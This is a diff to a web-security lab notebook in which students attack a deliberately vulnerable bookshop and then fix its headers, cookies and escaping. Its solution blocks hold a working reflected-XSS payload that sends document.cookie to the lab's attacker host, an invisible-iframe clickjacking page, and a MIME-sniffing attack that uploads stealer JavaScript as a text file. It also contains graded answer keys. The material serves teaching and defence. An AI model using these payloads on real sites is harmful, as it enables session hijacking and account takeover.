@@ -28,6 +28,7 @@
 
 # %%
 import html
+from urllib.parse import quote
 
 import httpx
 import matplotlib.pyplot as plt
@@ -40,7 +41,10 @@ lab = labkit.open_lab("12-headers")
 SHOP, ATTACKER = lab.urls["main"], lab.urls["attacker"]
 print("bookshop        ", SHOP, "and, over TLS,", lab.urls["https"])
 print("attacker's site ", ATTACKER)
-print("victim's browser", find_chromium() or "none found: every attack below runs as a labelled SIMULATION")
+print(
+    "victim's browser",
+    find_chromium() or "none found: every attack below runs as a labelled SIMULATION",
+)
 lab
 
 # %% [markdown]
@@ -72,10 +76,15 @@ lab
 
 # %%
 response = lab.client.get("/", params={"q": "<b>tea</b>"})
-for name in ("content-security-policy", "x-frame-options", "x-content-type-options", "referrer-policy"):
+for name in (
+    "content-security-policy",
+    "x-frame-options",
+    "x-content-type-options",
+    "referrer-policy",
+):
     print(f"{name:<24} {response.headers.get(name, '— missing —')}")
 print()
-print(response.text[response.text.index("<form"):][:240])
+print(response.text[response.text.index("<form") :][:240])
 
 # %% [markdown]
 # The search box echoes `q` twice — inside `value="…"` and in the heading — exactly as typed.
@@ -83,19 +92,25 @@ print(response.text[response.text.index("<form"):][:240])
 #
 # ## Attack 1 — steal the session cookie (reflected XSS)
 #
-# `xss.cookie_stealer(ATTACKER)` is an inline `<script>` that sends `document.cookie` to the
-# attacker's `/steal` endpoint. Put it into a search link; alice, logged in, will open it.
-# Store the link in `url` (`xss.search_url(SHOP, payload)` builds one).
-
-# %%
-print(xss.cookie_stealer(ATTACKER))
+# The attacker's site records whatever arrives at `ATTACKER + "/steal?c=..."` (and answers
+# 204 No Content, so a browser sent there stays on its page). Write the JavaScript that sends
+# alice's `document.cookie` there — navigating to that address (`location = ...`) is enough,
+# `encodeURIComponent` keeps the cookie in one piece — and keep it in `steal_js`. Wrap it in
+# the markup that makes the search page run it: that is your `payload`, the text typed into
+# the search box. Store the search link alice will open, `SHOP + "/?q=" + quote(payload,
+# safe="")`, in `url`. Success: the attacker's site receives her session cookie, and that
+# cookie opens her account.
 
 # %% labkit={"answer": "steal-cookie"}
 ### BEGIN SOLUTION
-url = xss.search_url(SHOP, xss.cookie_stealer(ATTACKER))
+steal_js = f"location = '{ATTACKER}/steal?c=' + encodeURIComponent(document.cookie)"
+payload = f"<script>{steal_js}</script>"
+url = SHOP + "/?q=" + quote(payload, safe="")
 ### STUB
-url = None  # TODO: a search link carrying xss.cookie_stealer(ATTACKER)
+steal_js = payload = None  # TODO: JavaScript sending document.cookie to ATTACKER/steal?c=
+url = None  # TODO: the search link carrying your payload
 ### END SOLUTION
+url
 
 # %% [markdown]
 # The check starts alice's browser, logs her in, opens your link, and looks at what the
@@ -125,17 +140,34 @@ lab.check("steal-cookie", url)
 print(lab.client.get("/static/site.css").text)
 
 # %% [markdown]
-# `xss.clickjack_page(SHOP + "/profile", top=…, left=…)` writes the attacker's page: the
-# profile in a 5 %-opaque frame, over a decoy button `#prize` at (`top`, `left`). Store the
-# page's HTML in `page`. The check hosts it on the attacker's site and has alice click
-# `#prize`.
+# Write `framing_page(target)`: the HTML of the attacker's page — `target` in an `<iframe>`
+# (say 900 × 600, no border) at the page's top left corner, almost invisible (`opacity:
+# 0.05`) and on top (`z-index: 2`); under it, at the very spot where the frame shows
+# `#share`, a decoy `<button id="prize">Claim your free e-book!</button>` (`position:
+# absolute`, `z-index: 1`) of the same size. Store `framing_page(SHOP + "/profile")` in
+# `page`. The check hosts it on the attacker's site and has alice click `#prize`; success:
+# her reading list became public.
+
 
 # %% labkit={"answer": "clickjack"}
-### BEGIN SOLUTION
-page = xss.clickjack_page(SHOP + "/profile", top=180, left=24)
-### STUB
-page = None  # TODO: xss.clickjack_page(SHOP + "/profile", top=..., left=...)
-### END SOLUTION
+def framing_page(target: str) -> str:
+    ### BEGIN SOLUTION
+    return f"""<!doctype html><title>You won!</title>
+<style>
+  body {{ margin: 0; font: 16px system-ui }}
+  iframe {{ position: absolute; top: 0; left: 0; width: 900px; height: 600px;
+           border: 0; opacity: 0.05; z-index: 2 }}
+  #prize {{ position: absolute; top: 180px; left: 24px; width: 280px; height: 44px;
+           z-index: 1 }}
+</style>
+<iframe src="{target}"></iframe>
+<button id="prize">Claim your free e-book!</button>"""
+    ### STUB
+    return ""  # TODO: the target, framed invisibly over a decoy #prize button
+    ### END SOLUTION
+
+
+page = framing_page(SHOP + "/profile")
 
 # %% labkit={"check": "clickjack"}
 lab.check("clickjack", page)
@@ -148,21 +180,24 @@ lab.check("clickjack", page)
 # its own origin as `text/plain`. Without `X-Content-Type-Options: nosniff`, a browser asked
 # to run a `text/plain` response as a script… runs it.
 #
-# Log in as carol, upload the stealer's code as `notes.txt`, and inject a `<script src>`
-# pointing at it (`xss.script_include(path)`) — no inline code at all. Store the search link
-# in `sniff_url`. The check adds `script-src 'self'` to the shop's pages in alice's browser.
+# Log in as carol, upload your `steal_js` from Attack 1 as `notes.txt`, and inject a
+# `<script src="...">` pointing at it through the search box — no inline code at all. Store
+# the search link in `sniff_url`. The check adds `script-src 'self'` to the shop's pages in
+# alice's browser; success: her cookie reaches the attacker's site anyway.
 
 # %% labkit={"answer": "sniff-upload"}
 ### BEGIN SOLUTION
 carol = lab.users["carol"]
-token = lab.client.post("/api/auth/login", json={"email": carol.email, "password": carol.password}).json()["accessToken"]
+token = lab.client.post(
+    "/api/auth/login", json={"email": carol.email, "password": carol.password}
+).json()["accessToken"]
 upload = lab.client.post(
     "/api/uploads",
-    json={"filename": "notes.txt", "content": xss.stealer_code(ATTACKER)},
+    json={"filename": "notes.txt", "content": steal_js},
     headers={"Authorization": f"Bearer {token}"},
 ).json()["url"]
 print(upload, lab.client.get(upload).headers["content-type"])
-sniff_url = xss.search_url(SHOP, xss.script_include(upload))
+sniff_url = SHOP + "/?q=" + quote(f'<script src="{upload}"></script>', safe="")
 ### STUB
 sniff_url = None  # TODO: upload the stealer as notes.txt, then a search link including it
 ### END SOLUTION
@@ -236,19 +271,22 @@ lab.check("referer-leak", reset_token)
 #
 # <!-- labkit:rules headers -->
 
+
 # %% labkit={"answer": "headers"}
 def security_headers(https: bool) -> dict[str, str]:
     ### BEGIN SOLUTION
-    csp = "; ".join([
-        "default-src 'self'",
-        "script-src 'self'",
-        "style-src 'self'",
-        "img-src 'self'",
-        "object-src 'none'",
-        "base-uri 'none'",
-        "form-action 'self'",
-        "frame-ancestors 'none'",
-    ])
+    csp = "; ".join(
+        [
+            "default-src 'self'",
+            "script-src 'self'",
+            "style-src 'self'",
+            "img-src 'self'",
+            "object-src 'none'",
+            "base-uri 'none'",
+            "form-action 'self'",
+            "frame-ancestors 'none'",
+        ]
+    )
     headers = {
         "Content-Security-Policy": csp,
         "X-Content-Type-Options": "nosniff",
@@ -283,6 +321,7 @@ lab.check("headers", security_headers=security_headers)
 #
 # <!-- labkit:rules cookie -->
 
+
 # %% labkit={"answer": "cookie"}
 def session_cookie() -> dict:
     ### BEGIN SOLUTION
@@ -309,6 +348,7 @@ lab.check("cookie", session_cookie=session_cookie)
 #
 # <!-- labkit:rules encoding -->
 
+
 # %% labkit={"answer": "encoding"}
 def escape(text: str) -> str:
     ### BEGIN SOLUTION
@@ -328,6 +368,7 @@ lab.check("encoding", escape=escape)
 # `help(observatory)`) to the shop's HTTPS address, as the Observatory would; `more=[login]`
 # also grades the cookie a login sets (the real Observatory never logs in).
 
+
 # %%
 def graded(shop_url: str) -> observatory.ObservatoryReport:
     """Scan a shop's HTTPS twin (trusting the lab's CA), the login's cookie included."""
@@ -340,7 +381,9 @@ def graded(shop_url: str) -> observatory.ObservatoryReport:
 
 before = graded(SHOP)
 try:
-    fixed = lab.patched(security_headers=security_headers, session_cookie=session_cookie, escape=escape)
+    fixed = lab.patched(
+        security_headers=security_headers, session_cookie=session_cookie, escape=escape
+    )
     after = graded(fixed.url)
 except Exception as exc:  # a fix still raising NotImplementedError
     print(f"write the three fixes first ({exc})")
@@ -355,10 +398,20 @@ if after is not None:
     names = [t.test for t in before.tests]
     fig, ax = plt.subplots(figsize=(7, 3.6))
     y = range(len(names))
-    ax.barh([i + 0.2 for i in y], [t.modifier for t in before.tests], 0.4, color="#cf222e",
-            label=f"vulnerable shop: {before.summary()}")
-    ax.barh([i - 0.2 for i in y], [t.modifier for t in after.tests], 0.4, color="#1a7f37",
-            label=f"your fix: {after.summary()}")
+    ax.barh(
+        [i + 0.2 for i in y],
+        [t.modifier for t in before.tests],
+        0.4,
+        color="#cf222e",
+        label=f"vulnerable shop: {before.summary()}",
+    )
+    ax.barh(
+        [i - 0.2 for i in y],
+        [t.modifier for t in after.tests],
+        0.4,
+        color="#1a7f37",
+        label=f"your fix: {after.summary()}",
+    )
     ax.set_yticks(list(y), names)
     ax.axvline(0, color="black", linewidth=0.8)
     ax.set_xlabel("score modifier (MDN HTTP Observatory rules)")
@@ -372,12 +425,20 @@ if after is not None:
 # Your three fixes together. The check replays every attack in alice's browser — the cookie
 # theft with CSP on and with CSP off, every payload context, the frame and the click, the
 # sniffed upload, the leaking link — while she still logs in, searches for `<b>tea</b>` and
-# sees it as text, and uploads a file; and the headers must grade **A** or better.
+# sees it as text, and uploads a file; and the headers must grade **A** or better. It also
+# replays **your own** exploits: the `payload` of Attack 1 and the `page` of Attack 2, aimed
+# at the fixed shop, must now fail in alice's browser.
 #
 # <!-- labkit:rules verify -->
 
 # %% labkit={"check": "verify"}
-lab.check("verify", security_headers=security_headers, session_cookie=session_cookie, escape=escape)
+lab.check(
+    "verify",
+    {"payload": payload, "page": page},
+    security_headers=security_headers,
+    session_cookie=session_cookie,
+    escape=escape,
+)
 
 # %% [markdown]
 # ## Recap
